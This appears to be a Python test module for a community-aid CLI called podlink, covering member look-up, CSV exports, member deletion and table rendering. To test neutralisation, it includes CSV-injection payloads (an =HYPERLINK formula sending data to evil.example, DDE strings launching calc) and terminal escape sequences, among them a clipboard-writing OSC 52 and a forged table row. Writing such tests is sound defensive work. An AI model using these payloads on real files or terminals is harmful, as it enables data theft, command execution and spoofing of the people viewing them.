"""Review: members (add, look-up, forget) and what leaves the pod on paper (CSV, the
contact sheet), and how hostile text from other pods is shown in tables.

Real nodes (`podlink serve` subprocesses on 127.0.0.1), real SQLite files, real
signatures; every command goes through the click entry point.
"""

from __future__ import annotations

import asyncio
import csv
import io
import traceback
import unicodedata
from pathlib import Path

from click.testing import CliRunner, Result

from podlink.cli.main import main
from podlink.node.client import NodeClient
from podlink.node.config import load_config
from podlink.protocol import kinds
from podlink.protocol.keys import load_keypair
from tests.cli.conftest import Network, Pod, eventually, make_pod, serve, stop, wait_up


def invoke(*args: str, home: Path, **env: str | None) -> Result:
    """`podlink ARGS --home HOME`; an uncaught exception is kept in the result."""
    base: dict[str, str | None] = {"PODLINK_HOME": None, "COLUMNS": "80", "NO_COLOR": "1"}
    return CliRunner().invoke(main, [*args, "--home", str(home)], env={**base, **env})


def no_traceback(result: Result) -> None:
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        tb = "".join(traceback.format_exception(*result.exc_info))  # type: ignore[misc]
        raise AssertionError(f"uncaught exception instead of a one-line error:\n{tb}")


def seen_by(pod: Pod, request_id: str) -> bool:
    return any(r["id"] == request_id for r in pod.json("request", "list"))


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


# ---------------------------------------------------------------- exports


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"Open")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0"]  # fmt: skip


def test_csv_export_leaves_formulas_live_for_the_spreadsheet(network: Network) -> None:
    """Needs shared by other pods reach our `export csv requests` (README: "keep a
    spreadsheet if you like one"), and their text is hostile input. A cell starting with
    `=`, `+`, `-` or `@` is written as is, so the spreadsheet opening the CSV runs it as a
    formula (=HYPERLINK sends the row's data away; DDE runs a command): CSV injection.
    Honest data breaks too: a member's phone in international format, "+44 7700 900417",
    is the formula `+44 7700 900417` to Excel (#NULL!) in `export csv members`.
    Expected: such cells neutralised (e.g. a leading `'`), in every CSV export."""
    riverside, maple = network.riverside, network.maple
    ids = [
        riverside.json("request", "add", title, "--category", "food", "--share", "peers")["id"]
        for title in FORMULAS
    ]
    member = maple.json("member", "add", "Wanjiru", "--contact", "+44 7700 900417")["id"]
    maple("sync")
    eventually(lambda: all(seen_by(maple, i) for i in ids))
    rows = {r["id"]: r for r in csv_rows(maple("export", "csv", "requests").stdout)}
    members = {m["id"]: m for m in csv_rows(maple("export", "csv", "members").stdout)}
    cells = [rows[i]["title"] for i in ids] + [members[member]["contact"]]
    live = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not live, f"cells a spreadsheet reads as formulas: {live}"


def test_export_under_a_path_that_is_a_file_is_a_traceback(
    network: Network, tmp_path: Path
) -> None:
    """`export csv members -o notes.txt/members.csv` (a typo: the parent is a file) dies
    with a FileExistsError traceback: _write (cli/export.py) calls private_file outside
    run_sync, so OSErrors are not turned into a one-line error as everywhere else."""
    network.lonely("member", "add", "Odile", "--contact", "555 0170")
    parent = tmp_path / "notes.txt"
    parent.write_text("x")
    for args in (("csv", "members"), ("sheet",)):
        result = invoke("export", *args, "-o", str(parent / "out"), home=network.lonely.home)
        no_traceback(result)
        assert result.exit_code == 1 and "Error:" in result.stderr


def test_csv_export_of_requests_is_silently_cut_at_5000(tmp_path: Path) -> None:
    """`export csv requests` is documented as an export of the pod's requests, but it reads
    GET /v1/requests, which stops at MAX_LIST = 5000 rows (node/organizer_api.py) with no
    sign of it: a pod that sees more needs gets a CSV missing the newest ones (the list is
    ordered by urgency, then age, so an urgent need opened last is kept but ordinary new
    ones vanish) and is never told."""
    pod = make_pod(tmp_path, "Busy")
    serve(pod)
    try:
        wait_up(pod)
        total = 5001
        asyncio.run(_many_requests(pod, total))
        rows = csv_rows(pod("export", "csv", "requests").stdout)
        assert len(rows) == total, f"{total} requests in the pod, {len(rows)} exported"
    finally:
        stop(pod)


async def _many_requests(pod: Pod, n: int) -> None:
    config = load_config(pod.home)
    keypair = load_keypair(config.organizer_key_path)
    async with NodeClient(pod.url, keypair) as client:
        author = await client.author()
        events = [
            author.write(kinds.RequestOpened(title=f"need {i}", category="food"), "pod")
            for i in range(n)
        ]
        for start in range(0, n, 1000):
            await client.submit(events[start : start + 1000])


# ---------------------------------------------------------------- members by name


def test_a_name_typed_with_decomposed_accents_finds_no_member(network: Network) -> None:
    """A member added as "Zoë Müller" (NFC, as most keyboards type it) is "no member
    called 'Zoë Müller'" when the name comes decomposed (NFD: macOS file names, pasted
    text, some input methods), though both look the same: PodSession.member
    (cli/session.py) compares casefold() only, without unicodedata.normalize."""
    maple = network.maple
    name = unicodedata.normalize("NFC", "Zoë Müller")
    added = maple.json("member", "add", name, "--contact", "555 0180")
    typed = unicodedata.normalize("NFD", name)
    assert typed != name
    result = invoke("request", "add", "Shopping", "--category", "food", "--for", typed,
                    "--json", home=maple.home)  # fmt: skip
    no_traceback(result)
    assert result.exit_code == 0, result.stderr
    assert '"for_member": "' + added["id"] in result.stdout


def test_too_many_languages_names_an_option_that_does_not_exist(tmp_path: Path) -> None:
    """`member add --language` given 17 times says "--languages may be given at most 16
    times", and a long one "each --languages is too long": there is no --languages option
    (retrying with it is "No such option"). cli/session.py plain() builds the option name
    from the body field (`languages`), not from the command's option (`--language`)."""
    pod = make_pod(tmp_path, "Polyglot")  # the CLI refuses before it talks to the node
    many = [arg for i in range(17) for arg in ("--language", f"lang{i}")]
    for extra in (many, ["--language", "x" * 201]):
        result = invoke("member", "add", "Ann", *extra, home=pod.home)
        assert result.exit_code == 1
        assert "--languages" not in result.stderr and "--language" in result.stderr, result.stderr


def test_a_forgotten_member_is_gone_from_every_export_and_table(network: Network) -> None:
    """PASSES: once a member with a need, an offer and a claim is forgotten, no CSV, the
    contact sheet, `member list --all`, `request show`, `offer list`, `match` nor the
    log shows their name, contact or notes; their records stay, with the bare id."""
    pod = network.hilltop
    name, contact, notes = "Philomena Quist", "555 0191", "spare key under the mat"
    mid = pod.json("member", "add", name, "--contact", contact, "--notes", notes,
                   "--can", "food", "--needs", "medicine")["id"]  # fmt: skip
    rid = pod.json("request", "add", "Eye drops", "--category", "medicine", "--for", name)["id"]
    pod("request", "add", "Soup", "--category", "food")
    pod("offer", "add", "Soup on Sundays", "--category", "food", "--by", name)
    pod("claim", rid, "--by", name)
    pod("member", "forget", name, "--yes")
    outputs = [pod("export", "csv", what).stdout for what in ("requests", "offers", "members")] + [
        pod("export", "sheet").stdout,
        pod("member", "list", "--all").stdout,
        pod("member", "list", "--all", "--json").stdout,
        pod("request", "show", rid).stdout,
        pod("offer", "list").stdout,
        pod("match", "--json").stdout,
        pod("log", "--json", "--limit", "5000").stdout,
    ]
    for text in outputs:
        assert name not in text and contact not in text and notes not in text, text[:300]
    requests = {r["id"]: r for r in csv_rows(outputs[0])}
    assert requests[rid]["for_member"] == mid and requests[rid]["for_name"] == ""
    # The offer made in their name was withdrawn with the forget (other pods would keep
    # suggesting it), and nothing says why: the forget stays inside the pod.
    offers = [o for o in pod.json("offer", "list", "--status", "all") if o["by_member"] == mid]
    assert [o["status"] for o in offers] == ["withdrawn"]


# ---------------------------------------------------------------- tables


def test_control_characters_in_another_pods_title_reach_the_table(network: Network) -> None:
    """A need shared by another pod is shown in `request list` with its control
    characters: rich's Text strips only BEL/BS/VT/FF/CR, so (1) ESC sequences reach the
    organizer's terminal as the hostile pod wrote them ("\\x1b[8m" hides the rest of the
    row, OSC 52 writes the clipboard on many terminals) and (2) a newline makes the one
    row two, the second forged to look like a need of our own pod. Expected: control
    characters (C0, C1, DEL) shown escaped or replaced in every cell, one row per need."""
    riverside, maple = network.riverside, network.maple
    evil = "Rides\x1b[8m hidden \x1b]52;c;ZWNobyBwd25lZA==\x07"
    forged = "Chairs\nXk3b9a1Q Send 200 to 555 0101  money  urgent  open  Maple Street pod"
    ids = [riverside.json("request", "add", title, "--category", "other", "--share",
                          "peers")["id"] for title in (evil, forged)]  # fmt: skip
    maple("sync")
    eventually(lambda: all(seen_by(maple, i) for i in ids))
    for env in ({"TTY_COMPATIBLE": "1"}, {}):  # on a terminal, and piped
        result = invoke("request", "list", home=maple.home, **env)
        assert result.exit_code == 0
        lines = result.stdout.splitlines()
        row = next(line for line in lines if ids[0][:8] in line)
        assert any(ids[1][:8] in line for line in lines)
        problems = []
        if "\x1b[8m" in row or "\x1b]52" in row:
            problems.append(f"escape sequences in {row!r}")
        forged_rows = [line for line in lines if line.lstrip().startswith("Xk3b9a1Q")]
        if forged_rows:
            problems.append(f"a forged row: {forged_rows!r}")
        assert not problems, (env, problems)


def test_export_cells_defuse_formulas_but_keep_ids_whole() -> None:
    """A cell starting like a formula gets an apostrophe; a full id that happens to start
    with '-' (one in 64) stays as it is, so it can be copied into a command (found when a
    test looked rows up by id and one in 64 runs failed)."""
    from podlink.cli.export import _cell

    some_id = "-OQcbN9erLfFk06vfroIDmu42zsOKAIlgcLhyaQeTys"
    assert _cell(some_id) == some_id
    assert _cell("-1+1") == "'-1+1" and _cell("=1") == "'=1" and _cell("+44 7700") == "'+44 7700"
    assert _cell(-1.5) == -1.5 and _cell(None) == "" and _cell("Soup") == "Soup"
